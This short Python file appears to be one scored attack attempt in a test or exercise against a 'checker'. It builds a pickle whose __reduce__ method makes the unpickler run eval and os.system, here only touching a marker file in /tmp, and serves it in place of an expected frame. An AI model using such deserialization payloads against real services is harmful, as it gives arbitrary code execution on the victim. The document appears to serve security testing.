# tries: make the checker load code, with a pickle in the place of a frame
# earns: 0
import pickle


class Code:
    def __reduce__(self):
        return eval, ("__import__('os').system('touch /tmp/lm39-attack')",)


serve(lambda request: pickle.dumps(Code()) * 10)
